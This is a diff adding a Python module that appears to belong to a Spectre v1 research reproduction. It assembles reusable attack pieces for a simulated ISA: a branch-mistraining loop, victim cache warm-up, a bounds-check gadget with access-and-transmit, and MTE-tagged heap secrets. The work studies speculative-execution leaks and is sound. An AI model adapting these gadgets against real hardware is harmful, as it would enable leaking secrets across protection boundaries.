@@ -1,0 +1,112 @@
+"""Reusable gadget building blocks, factored out of the hand-written PoCs.
+
+The attack suite and the witness synthesizer
+(:mod:`repro.analysis.witness`) assemble the same four ingredients —
+data-driven training loop, victim warm-up, bounds-check gadget, transmit
+sequence — so they live here once.  :func:`repro.attacks.spectre_v1.build`
+is these blocks composed verbatim; the witness builders recompose them
+with allocator-placed (:class:`~repro.mte.allocator.TaggedHeap`) secrets
+and per-gadget-class tweaks.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import List, Optional
+
+from repro.attacks.common import emit_transmit
+from repro.isa.builder import ProgramBuilder
+from repro.mte.allocator import Allocation, TaggedHeap
+
+
+@dataclass
+class TrainingTable:
+    """One per-iteration operand table driving a training loop.
+
+    Each loop iteration loads ``values[i]`` into ``dest_reg`` from the
+    64-bit word table at ``base`` (pointer kept in ``ptr_reg``).  Training
+    iterations hold benign values; the final iteration holds the attack
+    value — the classic data-driven mistraining shape, which keeps the
+    branch history identical between training and attack runs.
+    """
+
+    name: str
+    base: int
+    ptr_reg: str
+    dest_reg: str
+    values: List[int] = field(default_factory=list)
+    note: str = ""
+
+    def emit_segment(self, b: ProgramBuilder) -> None:
+        b.words_segment(self.name, self.base, self.values)
+
+
+def emit_victim_warmup(b: ProgramBuilder, pointer: int,
+                       ptr_reg: str = "X20", dest_reg: str = "X21") -> None:
+    """A legitimate (key-matching) victim access that caches the secret
+    line, so the later speculative ACCESS is an L1 hit."""
+    b.li(ptr_reg, pointer, note="victim pointer")
+    b.ldrb(dest_reg, ptr_reg, note="victim legitimately touches its secret")
+
+
+def emit_training_loop(b: ProgramBuilder, gadget_label: str,
+                       tables: List[TrainingTable], iters: int,
+                       counter: str = "X25", scratch: str = "X24",
+                       loop_label: str = "loop") -> None:
+    """The mistraining driver: ``iters`` calls into ``gadget_label``, with
+    each :class:`TrainingTable` supplying that iteration's operand.
+
+    Emits only code (``BL`` per iteration, ``HALT`` after the loop); call
+    :meth:`TrainingTable.emit_segment` for the data tables.
+    """
+    for table in tables:
+        b.li(table.ptr_reg, table.base)
+    b.li(counter, 0, note="iteration counter")
+    b.label(loop_label)
+    b.lsl(scratch, counter, imm=3)
+    for table in tables:
+        b.ldr(table.dest_reg, table.ptr_reg, rm=scratch, note=table.note)
+    b.bl(gadget_label)
+    b.add(counter, counter, imm=1)
+    b.cmp(counter, imm=iters)
+    b.b_cond("LO", loop_label)
+    b.halt()
+
+
+def emit_bounds_check_gadget(b: ProgramBuilder, label: str = "gadget",
+                             size_reg: str = "X10", index_reg: str = "X0",
+                             array_reg: str = "X2", probe_reg: str = "X3",
+                             value_reg: str = "X5",
+                             skip_label: str = "skip") -> None:
+    """Listing 1's victim: slow size load, bounds check, ACCESS+TRANSMIT."""
+    b.label(label)
+    b.ldr("X1", size_reg, note="LDR X1, [ARRAY1_SIZE]")
+    b.cmp(index_reg, "X1", note="X < ARRAY1_SIZE")
+    b.b_cond("HS", skip_label, note="mistrained branch")
+    b.ldrb(value_reg, array_reg, rm=index_reg, note="ACCESS: load ARRAY1[X]")
+    emit_transmit(b, value_reg, probe_reg)
+    b.label(skip_label)
+    b.ret()
+
+
+def heap_secret(b: ProgramBuilder, heap: TaggedHeap, value: int,
+                tag: Optional[int] = None,
+                name: str = "secret") -> Allocation:
+    """Place a secret byte via the MTE allocator (§2.3 malloc tagging).
+
+    The allocation's tag lands on the data segment, so the loader replays
+    it into DRAM tag storage; the returned :class:`Allocation` carries the
+    correctly-keyed ``pointer`` for victim warm-up code.
+    """
+    allocation = heap.malloc(16, tag=tag)
+    b.bytes_segment(name, allocation.address,
+                    bytes([value & 0xFF] + [0] * 15), tag=allocation.tag)
+    return allocation
+
+
+def heap_array(b: ProgramBuilder, heap: TaggedHeap, name: str,
+               data: bytes, tag: Optional[int] = None) -> Allocation:
+    """Allocate and initialize an attacker-reachable array on the heap."""
+    allocation = heap.malloc(len(data), tag=tag)
+    b.bytes_segment(name, allocation.address, data, tag=allocation.tag)
+    return allocation
